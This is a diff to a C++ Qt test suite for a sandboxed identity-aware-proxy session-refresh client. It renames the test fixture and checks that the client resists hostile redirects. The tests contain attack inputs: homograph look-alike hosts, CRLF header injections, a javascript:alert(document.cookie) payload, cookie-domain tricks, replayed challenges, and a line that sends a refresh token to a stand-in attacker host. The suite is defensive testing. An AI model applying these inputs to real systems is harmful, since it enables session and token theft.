@@ -1,4 +1,4 @@
-#include "hostile/stage.h"
+#include "hostile/hostile_world.h"
 
 #include <QTest>
 
@@ -10,13 +10,13 @@ using At = sandbox::Step;
 
 namespace {
 
-using Attack = std::function<void(Stage &)>;
+using Attack = std::function<void(HostileWorld &)>;
 const QString kWiki = QStringLiteral("wiki");
 const QString kPath = QStringLiteral("/v1/gcip/resources/AB:handleRedirect");
 
-sandbox::Hostile &wiki(Stage &stage)
+sandbox::Hostile &wiki(HostileWorld &hostile)
 {
-    return stage.world.company.resource(kWiki).hostile;
+    return hostile.world.company.resource(kWiki).hostile;
 }
 
 // The look-alikes of a host of the company's, each of which ends at the attacker's port. %1: the attacker's port.
@@ -83,44 +83,44 @@ private:
         QTest::newRow(qPrintable(name)) << probe << attack << reason;
     }
 
-    std::unique_ptr<Stage> m_stage;
+    std::unique_ptr<HostileWorld> m_hostile;
     int m_reachable = 0;
 };
 
 void HostileRefreshTest::initTestCase()
 {
-    m_stage = std::make_unique<Stage>();
-    m_stage->world.keepOnly({kWiki});
-    QVERIFY(m_stage->signIn(kWiki));
+    m_hostile = std::make_unique<HostileWorld>();
+    m_hostile->world.keepOnly({kWiki});
+    QVERIFY(m_hostile->signIn(kWiki));
 }
 
 void HostileRefreshTest::cleanupTestCase()
 {
-    m_stage->print("renewal");
-    printf("  %d attacks, %d of them at places that the client can reach\n", m_stage->attacks(), m_reachable);
+    m_hostile->print("renewal");
+    printf("  %d attacks, %d of them at places that the client can reach\n", m_hostile->attacks(), m_reachable);
     QVERIFY(m_reachable > 20);
-    m_stage.reset();
+    m_hostile.reset();
 }
 
 void HostileRefreshTest::foreignEndpoints()
 {
     for (const Form &form : formsOf(u"iap.acme.localhost"_s, u"xn--ip-7kc.acme.localhost"_s)) {
-        const Attack attack = [url = form.url](Stage &stage) {
-            wiki(stage).redirectUri = QUrl(url.arg(stage.attacker.port()) + kPath);
+        const Attack attack = [url = form.url](HostileWorld &hostile) {
+            wiki(hostile).redirectUri = QUrl(url.arg(hostile.attacker.port()) + kPath);
         };
         row(u"redirect_uri: "_s + QLatin1String(form.name), form.url, attack, Reason::UntrustedRedirect);
     }
     const auto named = [](const char *name, const QByteArray &uri, Reason reason) {
-        const Attack attack = [uri](Stage &stage) {
-            QByteArray location = stage.locationOf(kWiki);
+        const Attack attack = [uri](HostileWorld &hostile) {
+            QByteArray location = hostile.locationOf(kWiki);
             const qsizetype from = location.indexOf("&redirect_uri=");
             const qsizetype to = location.indexOf("&state=");
-            const QByteArray port = QByteArray::number(stage.attacker.port());
-            const QByteArray honest = stage.world.company.iapHostPort().toLatin1();
+            const QByteArray port = QByteArray::number(hostile.attacker.port());
+            const QByteArray honest = hostile.world.company.iapHostPort().toLatin1();
             location.replace(
                 from, to - from, "&redirect_uri=" + QByteArray(uri).replace("%1", port).replace("%2", honest));
-            stage.clear();
-            stage.world.company.inject(challengeTo(location));
+            hostile.clear();
+            hostile.world.company.inject(challengeTo(location));
         };
         row(u"redirect_uri: "_s + QLatin1String(name), QString(), attack, reason);
     };
@@ -138,42 +138,43 @@ void HostileRefreshTest::foreignEndpoints()
 void HostileRefreshTest::foreignPages()
 {
     for (const Form &form : formsOf(u"login.acme.localhost"_s, u"xn--lgin-55d.acme.localhost"_s)) {
-        const Attack attack = [url = form.url](
-                                  Stage &stage) { wiki(stage).authPage = QUrl(url.arg(stage.attacker.port()) + u'/'); };
+        const Attack attack = [url = form.url](HostileWorld &hostile) {
+            wiki(hostile).authPage = QUrl(url.arg(hostile.attacker.port()) + u'/');
+        };
         row(u"auth page: "_s + QLatin1String(form.name), form.url, attack, Reason::UntrustedRedirect);
     }
     row(
-        u"apiKey of another project"_s, {}, [](Stage &stage) { wiki(stage).apiKey = u"AIzaForeign"_s; },
+        u"apiKey of another project"_s, {}, [](HostileWorld &hostile) { wiki(hostile).apiKey = u"AIzaForeign"_s; },
         Reason::UntrustedRedirect);
     row(
-        u"apiKey with a line break"_s, {}, [](Stage &stage) { wiki(stage).apiKey = u"AIza%0D%0AHost:%20evil"_s; },
-        Reason::IapUnavailable);
+        u"apiKey with a line break"_s, {},
+        [](HostileWorld &hostile) { wiki(hostile).apiKey = u"AIza%0D%0AHost:%20evil"_s; }, Reason::IapUnavailable);
     row(
-        u"another tenant"_s, {}, [](Stage &stage) { wiki(stage).tenant = u"acme-emea-k3x9q"_s; },
+        u"another tenant"_s, {}, [](HostileWorld &hostile) { wiki(hostile).tenant = u"acme-emea-k3x9q"_s; },
         Reason::TenantNotAllowed);
     row(
-        u"its session is somebody else's"_s, {}, [](Stage &stage) { wiki(stage).identityUid = u"stranger"_s; },
-        Reason::UntrustedRedirect);
+        u"its session is somebody else's"_s, {},
+        [](HostileWorld &hostile) { wiki(hostile).identityUid = u"stranger"_s; }, Reason::UntrustedRedirect);
 }
 
 void HostileRefreshTest::foreignTargets()
 {
     for (const Form &form : formsOf(u"wiki.acme.localhost"_s, u"xn--ip-7kc.acme.localhost"_s)) {
-        const Attack attack = [url = form.url](Stage &stage) {
-            stage.world.company.inject(replaced("targetUri", url.arg(stage.attacker.port()) + u"/?x=1"_s));
+        const Attack attack = [url = form.url](HostileWorld &hostile) {
+            hostile.world.company.inject(replaced("targetUri", url.arg(hostile.attacker.port()) + u"/?x=1"_s));
         };
         row(u"targetUri: "_s + QLatin1String(form.name), form.url, attack, Reason::UntrustedRedirect);
     }
     const auto named = [](const char *name, const QString &uri, Reason reason) {
         row(
             u"targetUri: "_s + QLatin1String(name), {},
-            [uri](Stage &stage) { stage.world.company.inject(replaced("targetUri", uri)); }, reason);
+            [uri](HostileWorld &hostile) { hostile.world.company.inject(replaced("targetUri", uri)); }, reason);
     };
     row(
         u"targetUri: another resource of the company"_s, {},
-        [](Stage &stage) {
-            const QUrl payroll = stage.world.company.resourceUrl(u"payroll"_s);
-            stage.world.company.inject(
+        [](HostileWorld &hostile) {
+            const QUrl payroll = hostile.world.company.resourceUrl(u"payroll"_s);
+            hostile.world.company.inject(
                 replaced("targetUri", payroll.toString() + u"?gcp-iap-mode=GCIP_AUTHENTICATING"_s));
         },
         Reason::UntrustedRedirect);
@@ -187,34 +188,36 @@ void HostileRefreshTest::foreignWords()
 {
     const auto says = [](const char *name, const Fault &fault, Reason reason) {
         row(
-            QLatin1String(name), {}, [fault](Stage &stage) { stage.world.company.inject(fault); }, reason);
+            QLatin1String(name), {}, [fault](HostileWorld &hostile) { hostile.world.company.inject(fault); }, reason);
     };
     says("originalUri is a script", replaced("originalUri", u"javascript:alert(document.cookie)"_s), Reason::Ok);
     says("originalUri is the attacker's", replaced("originalUri", u"https://evil.localhost/"_s), Reason::Ok);
     says("redirectToken with a header in it", replaced("redirectToken", u"x\r\nHost: evil.localhost"_s),
         Reason::IapUnavailable);
     row(
-        u"cookie for another site"_s, {}, [](Stage &stage) { wiki(stage).cookieDomain = u"evil.localhost"_s; },
+        u"cookie for another site"_s, {},
+        [](HostileWorld &hostile) { wiki(hostile).cookieDomain = u"evil.localhost"_s; }, Reason::IapUnavailable);
+    row(
+        u"cookie for a neighbour"_s, {},
+        [](HostileWorld &hostile) { wiki(hostile).cookieDomain = u"payroll.acme.localhost"_s; },
         Reason::IapUnavailable);
     row(
-        u"cookie for a neighbour"_s, {}, [](Stage &stage) { wiki(stage).cookieDomain = u"payroll.acme.localhost"_s; },
-        Reason::IapUnavailable);
-    row(
-        u"a bomb of cookies before the session"_s, {}, [](Stage &stage) { wiki(stage).cookieBomb = 60; }, Reason::Ok);
-    const Attack replay = [](Stage &stage) {
-        const QByteArray location = stage.locationOf(kWiki);
-        HttpClient other(stage.world.policy.certificateAuthorities);
-        stage.world.company.inject(challengeTo(location).times(1));
-        QCoro::waitFor(stage.world.sessions->refresh(kWiki)); // its state is used now
-        stage.clear();
-        stage.world.company.inject(challengeTo(location));
+        u"a bomb of cookies before the session"_s, {}, [](HostileWorld &hostile) { wiki(hostile).cookieBomb = 60; },
+        Reason::Ok);
+    const Attack replay = [](HostileWorld &hostile) {
+        const QByteArray location = hostile.locationOf(kWiki);
+        HttpClient other(hostile.world.policy.certificateAuthorities);
+        hostile.world.company.inject(challengeTo(location).times(1));
+        QCoro::waitFor(hostile.world.sessions->refresh(kWiki)); // its state is used now
+        hostile.clear();
+        hostile.world.company.inject(challengeTo(location));
     };
     row(u"a challenge once more"_s, {}, replay, Reason::IapUnavailable);
-    const Attack relay = [](Stage &stage) {
-        stage.world.company.resource(u"payroll"_s).tenants.clear(); // the same project and tenant as wiki's
-        const QByteArray location = stage.locationOf(u"payroll"_s);
-        stage.clear();
-        stage.world.company.inject(challengeTo(location).on(u"wiki.acme.localhost"_s));
+    const Attack relay = [](HostileWorld &hostile) {
+        hostile.world.company.resource(u"payroll"_s).tenants.clear(); // the same project and tenant as wiki's
+        const QByteArray location = hostile.locationOf(u"payroll"_s);
+        hostile.clear();
+        hostile.world.company.inject(challengeTo(location).on(u"wiki.acme.localhost"_s));
     };
     row(u"the challenge of another resource"_s, {}, relay, Reason::UntrustedRedirect);
 }
@@ -222,9 +225,9 @@ void HostileRefreshTest::foreignWords()
 void HostileRefreshTest::redirections()
 {
     const auto sendsOn = [](const char *name, At step, Reason reason) {
-        const Attack attack = [step](Stage &stage) {
-            const QString to = stage.attacker.at(u"evil.localhost"_s) + u"/caught"_s;
-            stage.world.company.inject(Fault::redirect(step, to.toLatin1()).forever());
+        const Attack attack = [step](HostileWorld &hostile) {
+            const QString to = hostile.attacker.at(u"evil.localhost"_s) + u"/caught"_s;
+            hostile.world.company.inject(Fault::redirect(step, to.toLatin1()).forever());
         };
         row(u"307 to the attacker: "_s + QLatin1String(name), u"https://evil.localhost:%1"_s, attack, reason);
     };
@@ -252,49 +255,49 @@ void HostileRefreshTest::attacks()
     QFETCH(QString, probe);
     QFETCH(Attack, attack);
     QFETCH(Reason, reason);
-    World &world = m_stage->world;
-    m_stage->clear();
-    if (!probe.isEmpty() && m_stage->reaches(probe.arg(m_stage->attacker.port())))
+    World &world = m_hostile->world;
+    m_hostile->clear();
+    if (!probe.isEmpty() && m_hostile->reaches(probe.arg(m_hostile->attacker.port())))
         ++m_reachable;
     world.advance(150s); // a new ID token, and restarts are allowed again
-    attack(*m_stage);
+    attack(*m_hostile);
     const QByteArray before = world.cookieHeader(kWiki);
     const auto outcome = world.refresh(kWiki);
     QCOMPARE(code(outcome ? Reason::Ok : outcome.error().reason), code(reason));
 
-    const QStringList leaks = m_stage->leaks();
-    m_stage->note(QLatin1String(QTest::currentDataTag()), leaks);
+    const QStringList leaks = m_hostile->leaks();
+    m_hostile->note(QLatin1String(QTest::currentDataTag()), leaks);
     QCOMPARE(leaks, QStringList());
-    QVERIFY2(m_stage->attacker.received.isEmpty(), qPrintable(m_stage->loot()));
+    QVERIFY2(m_hostile->attacker.received.isEmpty(), qPrintable(m_hostile->loot()));
     QCOMPARE(world.view(kWiki).state, State::Active);
     QCOMPARE(world.cookieHeader(kWiki) == before, !outcome); // the old session stays, or a new one came
     QVERIFY(world.windows.size() == 1);
 
-    m_stage->clear();
+    m_hostile->clear();
     world.advance(150s);
     const auto mended = world.refresh(kWiki);
     QVERIFY2(mended, mended ? "" : qPrintable(mended.error().detail));
     QCOMPARE(world.email(kWiki), u"kim@example.org"_s);
-    QCOMPARE(m_stage->leaks(), QStringList());
+    QCOMPARE(m_hostile->leaks(), QStringList());
 }
 
 // The search itself: it finds a secret that is sent where it must not be.
 void HostileRefreshTest::seesWhatItShouldSee()
 {
-    World &world = m_stage->world;
-    m_stage->clear();
+    World &world = m_hostile->world;
+    m_hostile->clear();
     HttpClient fool(world.policy.certificateAuthorities);
     HttpRequest request;
     const QString token = world.company.issueRefreshToken(u"kim@example.org"_s);
-    request.url = QUrl(m_stage->attacker.at(u"evil.localhost"_s) + u"/?t="_s + token);
+    request.url = QUrl(m_hostile->attacker.at(u"evil.localhost"_s) + u"/?t="_s + token);
     QCoro::waitFor(fool.send(request));
-    QCOMPARE(m_stage->leaks(), QStringList{u"refreshToken"_s});
-    m_stage->clear();
+    QCOMPARE(m_hostile->leaks(), QStringList{u"refreshToken"_s});
+    m_hostile->clear();
     request.url = world.company.resourceUrl(u"payroll"_s);
     request.headers.emplaceBack("Cookie", world.cookieHeader(kWiki));
     QCoro::waitFor(fool.send(request));
-    QVERIFY(m_stage->leaks().join(u' ').startsWith(u"sessionCookie of wiki at payroll.acme.localhost"));
-    m_stage->clear();
+    QVERIFY(m_hostile->leaks().join(u' ').startsWith(u"sessionCookie of wiki at payroll.acme.localhost"));
+    m_hostile->clear();
 }
 
 QTEST_GUILESS_MAIN(HostileRefreshTest)
